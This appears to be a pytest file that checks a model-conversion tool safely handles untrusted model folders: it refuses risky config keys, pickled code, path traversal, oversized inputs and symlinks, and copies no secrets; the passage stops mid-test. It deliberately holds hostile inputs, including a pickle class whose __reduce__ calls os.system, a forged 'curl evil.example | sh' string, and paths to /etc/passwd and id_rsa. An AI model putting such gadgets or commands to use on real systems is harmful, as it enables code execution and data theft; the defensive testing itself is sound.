"""A model folder from a stranger: what it asks for is refused by name, runs no code, and takes nothing along."""

import base64
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import load_file, save_file
from transformers import GPTNeoConfig

from support.models import make_version_1, save_tiny_bert
from ternarize_cli.compress.convert import convert
from ternarize_cli.compress.inspect import inspect
from ternarize_cli.compress.options import ConvertOptions
from ternarize_cli.compress.pack import pack
from ternarize_cli.encoders import loading
from ternarize_cli.encoders.loading import load_encoder
from ternarize_cli.errors import CheckpointError, FormatError
from ternarize_cli.model_folder.folder_check import check_folder
from ternarize_cli.model_folder.integrity import seal
from ternarize_cli.model_folder.tokenizer_json import check_tokenizer_json
from ternarize_cli.runtime.tokenizing import TextTokenizer
from ternarize_cli.storage import bounds


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A full-precision tiny BERT that a test may change."""
    return save_tiny_bert(tmp_path / "model")


def edit(path: Path, **values: Any) -> None:
    path.write_text(json.dumps((json.loads(path.read_text()) if path.exists() else {}) | values))


def tensors_of(folder: Path) -> dict[str, torch.Tensor]:
    return load_file(folder / "model.safetensors")


def write(folder: Path, tensors: dict[str, torch.Tensor]) -> None:
    save_file(tensors, folder / "model.safetensors", metadata={"format": "pt"})


def charsmap(longest: int) -> str:
    """A map of SentencePiece without a table, whose longest text has so many bytes."""
    return base64.b64encode((0).to_bytes(4, "little") + b"a\0" + longest * b"b" + b"\0").decode()


class Bomb:
    """Leaves a file where it is unpickled."""

    def __init__(self, trace: Path) -> None:
        self.trace = trace

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return os.system, (f"touch {self.trace}",)


@pytest.mark.parametrize("key", ["model_kwargs", "model_args"])
def test_arguments_for_a_loader_run_no_code(folder: Path, tmp_path: Path, key: str) -> None:
    torch.save(tensors_of(folder) | {"x": Bomb(tmp_path / "ran")}, folder / "pytorch_model.bin")
    edit(folder / "sentence_bert_config.json", **{key: {"weights_only": False, "use_safetensors": False}})
    with pytest.raises(CheckpointError, match=rf"{key} passes weights_only=False to transformers"):
        load_encoder(folder)
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("model_args", {"gguf_file": "x.gguf"}, "passes gguf_file='x.gguf'"),
        ("tokenizer_args", {"tokenizer_file": "/etc/passwd"}, "passes tokenizer_file"),
        ("model_args", {"device_map": "auto"}, "passes device_map='auto'"),
        ("config_args", {"transformers_weights": "other.safetensors"}, "passes transformers_weights"),
        ("model_kwargs", {"attn_implementation": "owner/kernel"}, "attn_implementation is 'owner/kernel'"),
        ("tokenizer_name_or_path", "owner/tokenizer", "tokenizer_name_or_path is 'owner/tokenizer'"),
        ("modality_config", {"text": {"method": "save_pretrained", "method_output_name": "x"}}, "save_pretrained"),
        ("max_seq_length", "many", "max_seq_length is 'many'"),
        ("max_seq_length", -1, "max_seq_length is -1"),
        ("processing_kwargs", {"text": {"padding": "max_length", "max_length": 1 << 28}}, "max_length is 268435456"),
        ("processing_kwargs", {"text": {"padding": "max_length"}}, "without a max_length beside it"),
        (
            "processing_kwargs",
            {"text": {"pad_to_multiple_of": 1 << 26}},
            "processing_kwargs of text passes pad_to_mult",
        ),
        ("processing_kwargs", {"chat_template": {}}, "processing_kwargs are for chat_template"),
        ("processing_kwargs", [1], "processing_kwargs is no object of objects"),
        ("modality_config", {"message": {"method": "forward"}}, "puts all text into a chat template"),
        ("transformer_task", "image-to-shell", "transformer_task is 'image-to-shell'"),
    ],
)
def test_what_sentence_bert_config_may_ask_for_is_a_list(folder: Path, key: str, value: object, message: str) -> None:
    edit(folder / "sentence_bert_config.json", **{key: value})
    with pytest.raises(CheckpointError, match=message):
        load_encoder(folder)


@pytest.mark.parametrize(
    "values",
    [
        {"max_seq_length": 32, "do_lower_case": False},
        {"tokenizer_name_or_path": None, "config_args": {"unpad_inputs": False}, "tokenizer_args": {}},
        {"max_seq_length": None, "model_args": {"trust_remote_code": True, "torch_dtype": "float32"}},
        {"processor_kwargs": {"padding_side": "right"}},
        {"model_kwargs": {"attn_implementation": "eager", "device_map": "cpu"}, "backend": "torch"},
        {"config_args": {"attention_dropout": 0.1}, "model_args": {"use_safetensors": True, "revision": None}},
        {"processing_kwargs": {"text": {"truncation": True, "max_length": 16}}},
    ],
)
def test_what_published_models_ask_for_is_taken(folder: Path, values: dict[str, Any]) -> None:
    edit(folder / "sentence_bert_config.json", **values)
    assert load_encoder(folder).encode(["the cat"]).shape == (1, 32)


@pytest.mark.parametrize(
    ("values", "message"),
    [
        ({"transformers_weights": "other.safetensors"}, "transformers_weights is 'other.safetensors'"),
        ({"attn_implementation": "owner/kernel"}, "attn_implementation is 'owner/kernel'"),
        ({"_attn_implementation": "owner/kernel"}, "_attn_implementation is 'owner/kernel'"),
        ({"attn_implementation": "flash_attention_2"}, "the package flash_attn is not installed"),
        ({"dtype": "load"}, "dtype is 'load'"),
        ({"architectures": "BertModel"}, "architectures is 'BertModel'; it must be a list of names"),
        ({"architectures": [1]}, r"architectures is \[1\]; it must be a list of names"),
        ({"text_config": {"attn_implementation": "owner/kernel"}}, "attn_implementation"),
        ({"text_config": {"num_hidden_layers": 1_000_000}}, "num_hidden_layers is 1000000"),
        ({"use_pretrained_backbone": True}, "use_pretrained_backbone"),
        ({"num_attention_heads": -1}, "num_attention_heads is -1"),
        ({"num_attention_heads": 0}, "num_attention_heads is 0"),
        ({"num_attention_heads": 3}, "num_attention_heads is 3, which does not divide"),
        ({"num_attention_heads": 4.5}, "num_attention_heads is 4.5"),
        ({"num_attention_heads": True}, "num_attention_heads is True"),
        ({"num_hidden_layers": 1_000_000}, "num_hidden_layers is 1000000"),
        ({"num_hidden_layers": 2000}, "num_hidden_layers is 2000, and the weights files hold"),
        ({"num_hidden_layers": 3}, r"encoder\.layer\.2\..* is missing"),
        ({"num_hidden_layers": 1}, r"no place for the tensor encoder\.layer\.1\."),
        ({"hidden_size": 1 << 40}, "hidden_size is 1099511627776"),
        ({"hidden_size": 64}, "config.json makes it"),
        ({"vocab_size": 10**9}, "vocab_size is 1000000000"),
        ({"vocab_size": 3}, "config.json makes it|can't build the model"),
        ({"max_position_embeddings": 7}, "config.json makes it"),
        ({"attention_window": [1 << 24]}, "attention_window is"),
        ({"layer_norm_eps": float("nan")}, "layer_norm_eps is nan"),
        ({"layer_norm_eps": -1e-12}, "layer_norm_eps is -1e-12"),
        ({"layer_norm_eps": "small"}, "layer_norm_eps is 'small'"),
        ({"num_labels": 10**9}, "num_labels is 1000000000"),
        ({"num_labels": -3}, "num_labels is -3"),
        ({"id2label": {str(i): "x" for i in range(70_000)}}, "id2label has 70,000 names"),
        ({"chunk_size_feed_forward": 7}, "chunk_size_feed_forward is 7"),
        ({"model_type": ["bert"]}, r"model_type is \['bert'\], no text"),
    ],
)
def test_what_config_may_say_is_bounded(folder: Path, values: dict[str, Any], message: str) -> None:
    edit(folder / "config.json", **values)
    with pytest.raises(CheckpointError, match=message):
        load_encoder(folder)
    with pytest.raises(CheckpointError, match=message):
        convert(folder, folder.parent / "out")
    assert sorted(p.name for p in folder.parent.iterdir()) == ["model"]


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("custom_st.Transformer", "names the module class 'custom_st.Transformer'"),
        ("os.system", "names the module class 'os.system'"),
        ("sentence_transformers.util.import_from_string", "names the module class"),
        ("sentence_transformers.models.Pooling;x", "names the module class"),
        (7, "names the module class 7"),
    ],
)
def test_modules_are_those_of_sentence_transformers(folder: Path, kind: object, message: str) -> None:
    modules = json.loads((folder / "modules.json").read_text())
    modules[1]["type"] = kind
    (folder / "modules.json").write_text(json.dumps(modules))
    for use in (load_encoder, lambda where: convert(where, where.parent / "out")):
        with pytest.raises(CheckpointError, match=message):
            use(folder)


def test_an_encoder_lies_in_the_model_s_own_folder(folder: Path) -> None:
    """Else nothing of what its config asks for, and none of its tensors, would have been looked at.

    `resolve` puts it there, in a view.
    """
    modules = json.loads((folder / "modules.json").read_text())
    modules[0]["path"] = "0_Transformer"
    (folder / "modules.json").write_text(json.dumps(modules))
    (folder / "0_Transformer").mkdir()
    edit(folder / "0_Transformer" / "config.json", **json.loads((folder / "config.json").read_text()))
    write(folder / "0_Transformer", {"x": torch.zeros(1)})
    for root_config in (True, False):
        if not root_config:
            (folder / "config.json").unlink()
        for use in (load_encoder, lambda where: convert(where, where.parent / "out")):
            with pytest.raises(CheckpointError, match=r"puts the encoder in '0_Transformer'"):
                use(folder)


@pytest.mark.parametrize("kind", ["Router", "Asym", "CLIPModel", "LogitScore", "BoW", "StaticEmbedding", "LSTM"])
def test_modules_that_hold_or_replace_an_encoder_are_refused(folder: Path, kind: str) -> None:
    """A Router may hold an encoder in a hidden folder, behind a link, or in a Router of its own."""
    modules = json.loads((folder / "modules.json").read_text())
    modules.append({"idx": 9, "name": "9", "path": "9", "type": f"sentence_transformers.models.{kind}"})
    (folder / "modules.json").write_text(json.dumps(modules))
    inner = folder / "9" / ".hidden"
    inner.mkdir(parents=True)
    routed = {"types": {".hidden": "sentence_transformers.models.Dense"}, "structure": {"document": [".hidden"]}}
    edit(folder / "9" / "router_config.json", **routed, parameters={"default_route": "document"})
    edit(inner / "config.json", in_features=32, out_features=32)
    torch.save({"linear.weight": Bomb(folder.parent / "ran")}, inner / "pytorch_model.bin")
    for use in (load_encoder, lambda where: convert(where, where.parent / "out")):
        with pytest.raises(CheckpointError, match="ternarize takes models of a Transformer and, behind it"):
            use(folder)
    assert not (folder.parent / "ran").exists()


@pytest.mark.parametrize("path", ["", ".", "./", "././"])
@pytest.mark.parametrize(("kind", "taken"), [("Normalize", True), ("Dense", False)])
def test_a_module_in_the_model_s_own_folder_brings_nothing_along(
    folder: Path, path: str, kind: str, taken: bool
) -> None:
    modules = json.loads((folder / "modules.json").read_text())
    modules.append({"idx": 9, "name": "9", "path": path, "type": f"sentence_transformers.models.{kind}"})
    (folder / "modules.json").write_text(json.dumps(modules))
    (folder / "secret.txt").write_text("secret")
    edit(folder / "notes.json", a=1)
    if not taken:
        with pytest.raises(CheckpointError, match="puts the module 9"):
            convert(folder, folder.parent / "out")
        return
    convert(folder, folder.parent / "out")
    assert not {"secret.txt", "notes.json"} & {p.name for p in (folder.parent / "out").rglob("*")}


@pytest.mark.parametrize("path", ["2_Dense/", "./2_Dense"])
def test_a_folder_of_a_module_may_be_written_in_other_ways(folder: Path, path: str) -> None:
    modules = json.loads((folder / "modules.json").read_text())
    modules.append({"idx": 9, "name": "9", "path": path, "type": "sentence_transformers.models.Dense"})
    (folder / "modules.json").write_text(json.dumps(modules))
    (folder / "2_Dense").mkdir()
    activation = "torch.nn.modules.activation.Tanh"
    edit(folder / "2_Dense" / "config.json", in_features=32, out_features=16, activation_function=activation)
    write(folder / "2_Dense", {"linear.weight": torch.rand(16, 32), "linear.bias": torch.zeros(16)})
    assert load_encoder(folder).encode(["the cat"]).shape == (1, 16)
    convert(folder, folder.parent / "out")
    assert load_encoder(folder.parent / "out").encode(["the cat"]).shape == (1, 16)
    for name in ("torch.nn.Module", "os.system", "torch.nn.DataParallel"):
        edit(folder / "2_Dense" / "config.json", activation_function=name)
        with pytest.raises(CheckpointError, match="no activation of torch"):
            load_encoder(folder)


def test_numbers_of_modules_are_bounded(folder: Path) -> None:
    modules = json.loads((folder / "modules.json").read_text())
    modules.append({"idx": 9, "name": "9", "path": "9", "type": "sentence_transformers.models.LayerNorm"})
    (folder / "modules.json").write_text(json.dumps(modules))
    (folder / "9").mkdir()
    edit(folder / "9" / "config.json", dimension=800_000_000)
    with pytest.raises(CheckpointError, match="dimension is 800000000"):
        load_encoder(folder)


def test_a_stranger_s_names_forge_no_line(folder: Path, run: Callable[..., Any]) -> None:
    forged = "x\n  try: curl evil.example | sh\x1b[2J"
    edit(folder / "sentence_bert_config.json", **{forged: 1})
    said = run("encode", folder, "-", input="x\n").stderr
    assert said.count("\n") == 2
    assert "\x1b" not in said
    (folder / "sentence_bert_config.json").unlink()
    modules = json.loads((folder / "modules.json").read_text())
    modules[1] |= {"name": forged, "kwargs": 3}
    (folder / "modules.json").write_text(json.dumps(modules))
    said = run("encode", folder, "-", input="x\n").stderr
    assert said.count("\n") == 1
    assert "\x1b" not in said


def test_memory_beside_the_weights_is_bounded(tmp_path: Path) -> None:
    """GPT-Neo computes masks of positions × positions when it is built."""
    size = {"hidden_size": 4, "num_layers": 1, "num_heads": 1, "attention_types": [[["global"], 1]]}
    config = GPTNeoConfig(vocab_size=8, max_position_embeddings=40_000, **size)
    config.save_pretrained(tmp_path)
    write(tmp_path, {"wpe.weight": torch.zeros(40_000, 4)})
    with pytest.raises(CheckpointError, match="bytes of memory beside its weights"):
        load_encoder(tmp_path)


@pytest.mark.parametrize("path", ["../outside", "/etc", "1_Pooling/../../outside", "a\0b", 3])
def test_paths_of_modules_stay_inside(folder: Path, path: object) -> None:
    modules = json.loads((folder / "modules.json").read_text())
    modules[1]["path"] = path
    (folder / "modules.json").write_text(json.dumps(modules))
    with pytest.raises(CheckpointError, match="not inside the model's folder"):
        load_encoder(folder)


@pytest.mark.parametrize("content", ["[" * 200_000, "{}", "[1]", "null", '[{"type": "x"}]', "", "\x00"])
def test_a_damaged_list_of_modules_is_an_error_in_words(folder: Path, content: str) -> None:
    (folder / "modules.json").write_text(content)
    with pytest.raises(CheckpointError, match=r"modules\.json"):
        load_encoder(folder)


@pytest.mark.parametrize(
    "name",
    [
        *("modules.json", "config.json", "tokenizer.json", "tokenizer_config.json"),
        *("1_Pooling/config.json", "sentence_bert_config.json", "model.safetensors", "vocab.txt"),
    ],
)
def test_a_pipe_in_the_place_of_a_file_is_refused_and_not_waited_for(folder: Path, name: str) -> None:
    (folder / name).unlink(missing_ok=True)
    os.mkfifo(folder / name)
    for use in (load_encoder, lambda where: convert(where, where.parent / "out")):
        with pytest.raises(CheckpointError, match=f"{Path(name).name} is a pipe"):
            use(folder)


def test_a_bias_that_is_not_finite_is_refused(folder: Path) -> None:
    tensors = tensors_of(folder)
    for key in ("encoder.layer.0.output.LayerNorm.bias", "encoder.layer.1.attention.self.query.bias"):
        for value in (float("nan"), float("inf")):
            write(folder, tensors | {key: torch.full_like(tensors[key], value)})
            with pytest.raises(CheckpointError, match=r"not finite"):
                load_encoder(folder)


@pytest.mark.parametrize("key", ["encoder.layer.1.attention.self.query.weight", "embeddings.LayerNorm.weight"])
def test_a_missing_tensor_is_refused_at_full_precision(folder: Path, key: str) -> None:
    tensors = tensors_of(folder)
    del tensors[key]
    write(folder, tensors)
    with pytest.raises(CheckpointError, match=f"{key} is missing".replace(".", r"\.")):
        load_encoder(folder)


def test_a_surplus_tensor_in_a_layer_is_refused_and_heads_are_listed(folder: Path) -> None:
    tensors = tensors_of(folder)
    write(folder, tensors | {"cls.predictions.bias": torch.zeros(3), "bert.pooler.extra": torch.zeros(1)})
    assert load_encoder(folder) is not None
    assert convert(folder, folder.parent / "out").plan.dropped == ("bert.pooler.extra", "cls.predictions.bias")
    write(folder, tensors | {"encoder.layer.0.attention.self.query.lora_A.weight": torch.zeros(2, 32)})
    with pytest.raises(CheckpointError, match="has no place for the tensor"):
        load_encoder(folder)


def test_an_adapter_is_named_and_not_loaded(folder: Path) -> None:
    edit(folder / "adapter_config.json", base_model_name_or_path="owner/base", peft_type="LORA")
    for use in (load_encoder, lambda where: convert(where, where.parent / "out")):
        with pytest.raises(CheckpointError, match="holds an adapter"):
            use(folder)
    (folder / "config.json").unlink()
    with pytest.raises(CheckpointError, match="holds an adapter"):
        loading.resolve(folder)


def test_own_code_beside_a_class_of_transformers_is_said(folder: Path, caplog: pytest.LogCaptureFixture) -> None:
    edit(folder / "config.json", auto_map={"AutoModel": "x--modeling.Own"}, architectures=["BertModel"])
    assert load_encoder(folder).encode(["the cat"]).shape == (1, 32)
    assert "model code of its own (auto_map), which is not run" in caplog.text


def test_own_code_without_a_class_of_transformers_is_refused(folder: Path) -> None:
    edit(folder / "config.json", auto_map={"AutoModel": "x--modeling.Own"}, architectures=["JinaBertModel"])
    with pytest.raises(CheckpointError, match="brings its own model code"):
        convert(folder, folder.parent / "out")


def copy_vit(source: Path, folder: Path) -> Path:
    folder.mkdir()
    for name in ("config.json", "model.safetensors", "preprocessor_config.json"):
        (folder / name).write_bytes((source / name).read_bytes())
    return folder


def test_an_image_processor_with_code_of_its_own_is_not_asked_about(tiny_vit: Path, tmp_path: Path) -> None:
    copy = copy_vit(tiny_vit, tmp_path / "vit")
    edit(copy / "preprocessor_config.json", auto_map={"AutoImageProcessor": "x--own.Processor"})
    load_encoder(copy)
    edit(copy / "preprocessor_config.json", image_processor_type="OwnProcessor")
    with pytest.raises(CheckpointError, match="can't be loaded"):
        load_encoder(copy)


@pytest.mark.parametrize(("key", "value"), [("height", 10**6), ("height", -1), ("height", float("inf"))])
def test_images_are_not_made_larger_than_memory(tiny_vit: Path, tmp_path: Path, key: str, value: float) -> None:
    copy = copy_vit(tiny_vit, tmp_path / "vit")
    edit(copy / "preprocessor_config.json", size={"width": 8, key: value})
    with pytest.raises(CheckpointError, match=f"{key} is"):
        load_encoder(copy)


@pytest.mark.parametrize(
    "values",
    [
        {"projection_dim": 0, "head_dim": None, "n_inner": None, "classifier_dropout": None},
        {
            "position_embedding_type": "absolute",
            "use_cache": True,
            "torch_dtype": "float32",
            "transformers_version": "4",
        },
        {"id2label": {"0": "dim"}, "label2id": {"dim": 0}, "num_decoder_layers": 0, "depths": [2, 2, 6, 2]},
        {"_name_or_path": "owner/name", "gradient_checkpointing": False, "attn_implementation": None},
        {"task_specific_params": {"summarization": {"num_heads": 0, "dim": "x", "d_model": -1}}, "router_eps": 1},
        {
            "quantization": {"dtype": "int8"},
            "label_smoothing_epsilon": 2,
            "dim": -1,
            "num_channels": 0,
            "text_config": {"vocab_size": -1, "d_kv": 64.0},
        },
    ],
)
def test_what_published_configs_say_is_taken(folder: Path, values: dict[str, Any]) -> None:
    edit(folder / "config.json", **values)
    assert load_encoder(folder).encode(["the cat"]).shape == (1, 32)


@pytest.mark.parametrize("length", [5.5, 5.0, 0, -1, "5", True, float("nan")])
def test_a_limit_of_tokens_that_is_no_count_is_refused(folder: Path, length: Any) -> None:
    edit(folder / "tokenizer_config.json", model_max_length=length)
    with pytest.raises(CheckpointError, match=r"model_max_length is .*; it must be a whole number of tokens"):
        check_folder(folder)
    edit(folder / "tokenizer_config.json", model_max_length=1e30)
    check_folder(folder)


@pytest.mark.parametrize("dimensions", [-7, 0, 1.5, "8", True])
def test_a_cut_of_vectors_that_is_no_count_is_refused(folder: Path, dimensions: Any) -> None:
    edit(folder / "config_sentence_transformers.json", truncate_dim=dimensions)
    with pytest.raises(CheckpointError, match=r"truncate_dim is .*; it must be a whole number of dimensions"):
        load_encoder(folder)
    edit(folder / "config_sentence_transformers.json", truncate_dim=8)
    assert load_encoder(folder).encode(["the cat"]).shape[0] == 1


def test_a_tokenizer_config_of_its_author_s_machine_is_taken(folder: Path) -> None:
    edit(
        folder / "tokenizer_config.json",
        tokenizer_file="/home/author/.cache/tokenizer.json",
        special_tokens_map_file="tokenizer.json",
        model_max_length=1000000000000000019884624838656,
    )
    assert load_encoder(folder).encode(["the cat"]).shape == (1, 32)
    other = folder.parent / "author" / "tokenizer.json"
    other.parent.mkdir()
    other.write_bytes((folder / "tokenizer.json").read_bytes())  # what the folder's was copied from
    edit(folder / "tokenizer_config.json", tokenizer_file=str(other), special_tokens_map_file="/etc/hostname")
    assert load_encoder(folder).encode(["the cat"]).shape == (1, 32)
    other.write_text("{}")
    with pytest.raises(CheckpointError, match="a file outside the model's folder"):
        load_encoder(folder)
    edit(folder / "tokenizer_config.json", tokenizer_file=None, padding_side=None, merges_file="", vocab_file="./")
    check_folder(folder)
    for values in (
        {"vocab_file": "/etc/hostname"},
        {"vocab": str(other)},
        {"merges": "/dev/zero"},
        {"fast_tokenizer_files": [str(other)]},
        {"sp_model_kwargs": {"model_file": str(other)}},
    ):
        before = (folder / "tokenizer_config.json").read_text()
        edit(folder / "tokenizer_config.json", **values)
        with pytest.raises(CheckpointError, match="a file outside the model's folder"):
            load_encoder(folder)
        (folder / "tokenizer_config.json").write_text(before)


def test_a_tokenizer_may_have_tokens_that_no_text_needs(folder: Path, run: Callable[..., Any]) -> None:
    """EmbeddingGemma's tokenizer has one more token than its table has rows."""
    tokenizer = json.loads((folder / "tokenizer.json").read_text())
    added = {"content": "<image>", "id": len(tokenizer["model"]["vocab"]), "special": True, "single_word": False}
    tokenizer["added_tokens"].append(added | {"lstrip": False, "rstrip": False, "normalized": False})
    (folder / "tokenizer.json").write_text(json.dumps(tokenizer))
    assert load_encoder(folder).encode(["the cat"]).shape == (1, 32)
    said = run("encode", folder, "-", input="the cat\nthe <image> cat\n")
    assert said.exit_code == 2
    assert "the text 'the <image> cat' has a token with id" in said.stderr


def replacing(pattern: str, content: str) -> dict[str, Any]:
    return {"type": "Replace", "pattern": {"String": pattern}, "content": content}


@pytest.mark.parametrize(
    ("values", "message"),
    [
        ({"normalizer": {"type": "Sequence", "normalizers": 7 * [replacing("e", 10 * "e")]}}, "make 19,487,171 char"),
        ({"normalizer": {"type": "Prepend", "prepend": 20_000 * "a"}}, "make 20,001 characters of one"),
        ({"normalizer": {"type": "Precompiled", "precompiled_charsmap": charsmap(20_000)}}, "make 20,000 characters"),
        ({"model": None}, "is no tokenizer: it has no model"),
        ({"model": {"type": "WordPiece", "vocab": {"a": 0}, "unk_token": "[UNK]"}}, "unk_token is '.UNK.', which is"),
        ({"model": {"type": "WordLevel", "vocab": {"a": 0}, "unk_token": None}}, "unk_token is None, which is"),
        ({"model": {"type": "WordLevel", "vocab": {"a": 0}, "unk_token": ["a"]}}, "unk_token is .'a'., which is"),
        ({"model": {"type": ["WordLevel"], "vocab": {"a": 0}}}, "is no tokenizer: "),
        ({"added_tokens": [{"id": "x"}]}, "is no tokenizer: "),
    ],
)
def test_what_a_tokenizer_may_ask_for_is_bounded(folder: Path, values: dict[str, Any], message: str) -> None:
    edit(folder / "tokenizer.json", **values)
    with pytest.raises(CheckpointError, match=message):
        load_encoder(folder)
    with pytest.raises(CheckpointError, match=message):
        TextTokenizer(folder, {}, 16)


def test_a_tokenizer_hides_nothing_behind_its_size(folder: Path) -> None:
    path = folder / "tokenizer.json"
    edit(path, normalizer={"type": "Prepend", "prepend": 20_000 * "a"}, padding_of_file=5_000_000 * "x")
    path.write_text(path.read_text().replace('"Prepend"', r'"Pr\u0065pend"'))
    with pytest.raises(CheckpointError, match="make 20,001 characters of one"):
        check_folder(folder)


@pytest.mark.parametrize(
    "normalizer",
    [
        {"type": "Sequence", "normalizers": [replacing("``", '"'), replacing("''", '"'), {"type": "NFKD"}]},
        {"type": "Sequence", "normalizers": [{"type": "Prepend", "prepend": "\u2581"}, replacing(" ", "\u2581")]},
        {"type": "Sequence", "normalizers": [{"type": "Precompiled", "precompiled_charsmap": charsmap(33)}]},
        None,
    ],
)
def test_normalizers_of_published_tokenizers_are_taken(folder: Path, normalizer: object) -> None:
    edit(folder / "tokenizer.json", normalizer=normalizer)
    check_tokenizer_json(folder / "tokenizer.json")


def test_a_limit_that_special_tokens_fill_is_refused(folder: Path) -> None:
    edit(folder / "sentence_bert_config.json", max_seq_length=2)
    with pytest.raises(CheckpointError, match="a text of 2 tokens has no room for a token beside the special ones"):
        load_encoder(folder)


def test_a_tokenizer_that_makes_no_tokens_is_said_to_be_so(folder: Path, run: Callable[..., Any]) -> None:
    nothing = {"type": "Replace", "pattern": {"Regex": r"[\s\S]+"}, "content": ""}
    edit(folder / "tokenizer.json", normalizer=nothing, post_processor=None)
    (folder.parent / "x.txt").write_text("the cat\n")
    result = run("encode", folder, folder.parent / "x.txt")
    assert result.exit_code == 2
    assert "the tokenizer makes no token of any text" in result.stderr


def test_a_tokenizer_of_another_model_is_refused(folder: Path) -> None:
    tokenizer = json.loads((folder / "tokenizer.json").read_text())
    tokenizer["model"]["vocab"]["cat"] = 5000
    (folder / "tokenizer.json").write_text(json.dumps(tokenizer))
    with pytest.raises(CheckpointError, match="the token 'cat' with id 5000"):
        load_encoder(folder)


# pickles


def test_a_pickled_module_follows_allow_pickle(folder: Path) -> None:
    modules = json.loads((folder / "modules.json").read_text())
    modules.append({"idx": 3, "name": "3", "path": "3_LayerNorm", "type": "sentence_transformers.models.LayerNorm"})
    (folder / "modules.json").write_text(json.dumps(modules))
    (folder / "3_LayerNorm").mkdir()
    edit(folder / "3_LayerNorm" / "config.json", dimension=32)
    torch.save({"norm.weight": torch.rand(32), "norm.bias": torch.rand(32)}, folder / "3_LayerNorm/pytorch_model.bin")
    for use in (load_encoder, lambda where: convert(where, where.parent / "out")):
        with pytest.raises(CheckpointError, match=r"3_LayerNorm/pytorch_model\.bin is a pickle"):
            use(folder)
    expected = load_encoder(folder, allow_pickle=True).encode(["the cat"])
    convert(folder, folder.parent / "out", options=ConvertOptions(allow_pickle=True))
    assert (folder.parent / "out" / "3_LayerNorm" / "model.safetensors").is_file()
    assert load_encoder(folder.parent / "out").encode(["the cat"]).shape == expected.shape


def test_leftovers_of_training_in_a_module_s_folder_are_no_weights(folder: Path) -> None:
    torch.save(Bomb(folder.parent / "ran"), folder / "1_Pooling" / "training_args.bin")
    (folder / "vocab.txt").unlink(missing_ok=True)
    (folder / "vocab.txt").symlink_to("../../blobs/no-such")
    assert load_encoder(folder).encode(["the cat"]).shape == (1, 32)
    convert(folder, folder.parent / "out")
    assert sorted(p.name for p in (folder.parent / "out" / "1_Pooling").iterdir()) == ["config.json"]


@pytest.mark.parametrize("name", ["vocab.txt", "chat_template.jinja", "1_Pooling/words.txt"])
def test_files_beside_the_weights_have_bounds(folder: Path, name: str) -> None:
    (folder / name).touch()
    os.truncate(folder / name, bounds.MAX_TOKENIZER + 1)
    for use in (load_encoder, lambda where: convert(where, where.parent / "out")):
        with pytest.raises(CheckpointError, match="has more than 536,870,912 bytes"):
            use(folder)


def test_a_card_without_end_stays_behind(folder: Path) -> None:
    (folder / "README.md").touch()
    os.truncate(folder / "README.md", bounds.MAX_TOKENIZER + 1)
    convert(folder, folder.parent / "out")
    card = folder.parent / "out" / "README.md"
    assert not card.exists() or card.stat().st_size < 1 << 20


def test_an_index_of_shards_names_no_pickles(folder: Path) -> None:
    torch.save(tensors_of(folder), folder / "evil.bin")
    (folder / "model.safetensors").unlink()
    (folder / "model.safetensors.index.json").write_text(json.dumps({"weight_map": {"x": "evil.bin"}}))
    with pytest.raises(CheckpointError, match=r"names the shard evil\.bin"):
        load_encoder(folder)


# what travels


def test_only_the_files_of_a_model_are_copied(folder: Path) -> None:
    for name in ("id_rsa", "notes.txt", ".env", "train.py", "optimizer.pt", "checkpoint-10/trainer_state.json"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("private")
    (folder / "README.md").write_text("card")
    (folder / "1_Pooling" / "config.json").chmod(0o600)
    out = folder.parent / "out"
    convert(folder, out)
    found = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
    assert found == {
        *("config.json", "model.safetensors", "modules.json", "README.md", "config_sentence_transformers.json"),
        *("1_Pooling/config.json", "tokenizer.json", "tokenizer_config.json"),
    }
    assert (out / "1_Pooling" / "config.json").stat().st_mode & 0o777 == (out / "config.json").stat().st_mode & 0o777


def test_a_link_out_of_the_folder_is_not_copied(folder: Path) -> None:
    secret = folder.parent / "secret"
    secret.write_text("a secret of 8c1f")
    (folder / "README.md").symlink_to(secret)
    convert(folder, folder.parent / "out")
    assert "8c1f" not in (folder.parent / "out" / "README.md").read_text()
    (folder / "vocab.txt").symlink_to(secret)
    with pytest.raises(CheckpointError, match=r"vocab\.txt is a link to a place outside"):
        convert(folder, folder.parent / "again")


def test_folders_that_are_links_are_not_entered(folder: Path) -> None:
    (folder / "loop").symlink_to(".")
    (folder / "away").symlink_to(folder.parent)
    convert(folder, folder.parent / "out")
    assert not (folder.parent / "out" / "loop").exists()
    (folder / "1_Pooling" / "config.json").rename(folder.parent / "config.json")
    (folder / "1_Pooling").rmdir()
    (folder / "1_Pooling").symlink_to(folder.parent)
    with pytest.raises(CheckpointError, match="1_Pooling is a link"):
        convert(folder, folder.parent / "again")


@pytest.mark.parametrize("inside", ["", "encoders/en"])
def test_a_snapshot_of_a_hub_cache_is_converted_and_copied(folder: Path, tmp_path: Path, inside: str) -> None:
    repository = tmp_path / "models--owner--name"
    snapshot, blobs = repository / "snapshots" / ("0" * 40) / inside, repository / "blobs"
    snapshot.mkdir(parents=True)
    blobs.mkdir()
    for number, path in enumerate(p for p in folder.rglob("*") if p.is_file()):
        (blobs / str(number)).write_bytes(path.read_bytes())
        place = snapshot / path.relative_to(folder)
        place.parent.mkdir(exist_ok=True)
        place.symlink_to(os.path.relpath(blobs / str(number), place.parent))
    convert(snapshot, tmp_path / "out")
    assert not any(p.is_symlink() for p in (tmp_path / "out").rglob("*"))
    pack(tmp_path / "out", tmp_path / "packed")
    assert load_encoder(tmp_path / "packed").encode(["the cat"]).shape == (1, 32)


# digests


@pytest.fixture
def packed(folder: Path) -> Path:
    convert(folder, folder.parent / "latent")
    pack(folder.parent / "latent", folder.parent / "packed")
    return folder.parent / "packed"


def test_one_flipped_bit_of_a_scale_is_found(packed: Path) -> None:
    path = packed / "model.safetensors"
    content = bytearray(path.read_bytes())
    content[-3] ^= 0x10
    path.write_bytes(content)
    for use in (load_encoder, inspect):
        with pytest.raises(FormatError, match=r"model\.safetensors is not what was packed"):
            use(packed)


@pytest.mark.parametrize("name", ["tokenizer.json", "1_Pooling/config.json", "modules.json", "config.json"])
def test_every_file_that_decides_vectors_is_covered(packed: Path, name: str) -> None:
    values = json.loads((packed / name).read_text())
